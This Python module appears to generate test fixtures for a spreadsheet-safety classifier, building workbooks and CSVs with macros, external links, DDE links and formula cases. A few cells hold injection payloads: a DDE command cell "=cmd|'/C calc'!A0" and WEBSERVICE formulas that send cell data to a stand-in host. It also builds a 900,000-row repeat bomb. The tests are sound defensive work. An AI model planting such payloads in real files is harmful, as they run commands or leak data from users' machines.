"""Workbooks and tables that act, fetch or hide something, and those that only seem to."""

from __future__ import annotations

import xlwt

from tests.classify import made
from tests.corpus.books import Page, compound, ods, ods_cell, with_member, xls, xlsb, xlsx
from tests.corpus.containers import core, text
from tests.corpus.corpus import Files

_SHEET = "xl/worksheets/sheet1.xml"
_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
_YEAR = b'<c r="F2" t="inlineStr"><is><t>4</t></is></c>'


def _part(name: str, content: bytes = b"x") -> bytes:
    return with_member(xlsx(Page(core())), name, lambda _: content)


def _formula(formula: str, value: str) -> bytes:
    cell = f'<c r="F2"><f>{formula}</f>{value}</c>'.encode()
    return with_member(xlsx(Page(core())), _SHEET, lambda xml: _replaced(xml, _YEAR, cell))


def _replaced(xml: bytes, old: bytes, new: bytes) -> bytes:
    assert old in xml
    return xml.replace(old, new, 1)


def _link(target: str, kind: str = "hyperlink") -> bytes:
    relation = '<Relationships><Relationship Id="r1" TargetMode="External" Target="{}" Type="http://x/{}"/></Relationships>'
    return _part(_RELATIONS, relation.format(target, kind).encode())


def _cell_with(value: str) -> bytes:
    rows = core()
    rows[3][6] = value
    return text(rows)


def _ods_formula(cell: str) -> bytes:
    def change(xml: bytes) -> bytes:
        return _replaced(xml, ods_cell("4").encode(), cell.encode())

    return with_member(ods(Page(core())), "content.xml", change)


def _ods_with(old: str, new: str) -> bytes:
    return with_member(ods(Page(core())), "content.xml", lambda x: _replaced(x, old.encode(), new.encode()))


def _xls_formula(formula: str) -> bytes:
    return xls(Page(core()), change=lambda book: book.get_sheet(0).write(15, 6, xlwt.Formula(formula)))


def _xls_streams(name: str) -> bytes:
    return compound({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(5_000), name: bytes(5_000)})


FILES: Files = {
    "macros.xlsm": lambda: _part("xl/vbaProject.bin"),
    "macro-sheet.xlsm": lambda: _part("xl/macrosheets/sheet1.xml", b"<a/>"),
    "links.xlsx": lambda: _part("xl/externalLinks/externalLink1.xml", b"<a/>"),
    "connections.xlsx": lambda: _part("xl/connections.xml", b"<a/>"),
    "query.xlsx": lambda: _part("xl/queryTables/queryTable1.xml", b"<a/>"),
    "object.xlsx": lambda: _part("xl/embeddings/oleObject1.bin"),
    "control.xlsx": lambda: _part("xl/activeX/activeX1.bin"),
    "comments.xlsx": lambda: _part("xl/comments1.xml", b"<a/>"),
    "pivot.xlsx": lambda: _part("xl/pivotCache/pivotCacheDefinition1.xml", b"<a/>"),
    "photo.xlsx": lambda: _part("xl/media/image1.png"),
    "unknown-part.xlsx": lambda: _part("xl/secret.xml", b"<a/>"),
    "unnamed-sheet.xlsx": lambda: _part("xl/worksheets/sheet9.xml", b"<worksheet/>"),
    "link-to-a-site.xlsx": lambda: _link("http://example.org/x"),
    "link-to-a-file.xlsx": lambda: _link("file:///x.xlsx", "externalLinkPath"),
    "mail-address.xlsx": lambda: _link("mailto:office@example.org"),
    "printer.xlsx": lambda: _part("xl/printerSettings/printerSettings1.bin"),
    "formula-calculated.xlsx": lambda: _formula("2+2", "<v>4</v>"),
    "formula-of-text.xlsx": lambda: with_member(
        xlsx(Page(core())),
        _SHEET,
        lambda xml: _replaced(xml, _YEAR, b'<c r="F2" t="str"><f>LEFT(G2,1)</f><v>4</v></c>'),
    ),
    "formula-not-calculated.xlsx": lambda: _formula("2+2", ""),
    "formula-not-calculated-blank.xlsx": lambda: _formula("2+2", "<v></v>"),
    "formula-fetches.xlsx": lambda: _formula('WEBSERVICE("http://x/"&amp;A2)', "<v>4</v>"),
    "formula-elsewhere.xlsx": lambda: _formula("[1]Sheet1!A1", "<v>4</v>"),
    "formula-calculated.ods": lambda: _ods_formula(ods_cell("4", "of:=2+2")),
    "formula-not-calculated.ods": lambda: _ods_formula(ods_cell("", "of:=2+2")),
    "formula-fetches.ods": lambda: _ods_formula(ods_cell("4", 'of:=WEBSERVICE("http://x")')),
    "formula-elsewhere.ods": lambda: _ods_formula(ods_cell("4", "of:='file:///x.ods'#$A.B1")),
    "scripts.ods": lambda: _ods_with(
        "<office:scripts/>", "<office:scripts><script:event-listener/></office:scripts>"
    ),
    "basic.ods": lambda: ods(Page(core()), more={"Basic/Standard/Module1.xml": "<a/>"}),
    "object.ods": lambda: ods(Page(core()), more={"Object 1/content.xml": "<a/>"}),
    "comment.ods": lambda: _ods_formula(
        '<table:table-cell office:value-type="string"><office:annotation><text:p>x</text:p>'
        "</office:annotation><text:p>4</text:p></table:table-cell>"
    ),
    "tracked.ods": lambda: ods(
        Page(core()), body="<table:tracked-changes><table:deletion/></table:tracked-changes>"
    ),
    "dde.ods": lambda: ods(
        Page(core()), body='<table:dde-links><table:dde-link office:name="x"/></table:dde-links>'
    ),
    "rows-for-ever.ods": lambda: _ods_with(
        "<table:table-row><table:table-cell",
        '<table:table-row table:number-rows-repeated="900000"><table:table-cell',
    ),
    "formula-links.xls": lambda: _xls_formula('HYPERLINK("http://x";"y")'),
    "formula-adds.xls": lambda: _xls_formula("2+2"),
    "macros.xls": lambda: _xls_streams("_VBA_PROJECT_CUR"),
    "object.xls": lambda: _xls_streams("MBD0001"),
    "control.xls": lambda: _xls_streams("Ctls"),
    "letter.doc": lambda: compound({"WordDocument": bytes(5_000)}),
    "macros.xlsb": lambda: xlsb(Page(core()), more={"xl/vbaProject.bin": "x"}),
    "links.xlsb": lambda: xlsb(Page(core()), more={"xl/externalLinks/externalLink1.bin": "x"}),
    "cell-of-text.csv": lambda: text(core()).replace(b",1234,", b',"=""1234""",'),
    "cell-adds.csv": lambda: _cell_with("=4+4"),
    "cell-sums.csv": lambda: _cell_with("@SUM(A1:A9)"),
    "cell-links.csv": lambda: _cell_with('=HYPERLINK("http://x","4B")'),
    "cell-runs.csv": lambda: _cell_with("=cmd|'/C calc'!A0"),
    "cell-fetches.csv": lambda: _cell_with("+WEBSERVICE(A1)"),
    "bars-and-signs.csv": lambda: text(made.mark_rows()) + b"|+" * 5_000,
}
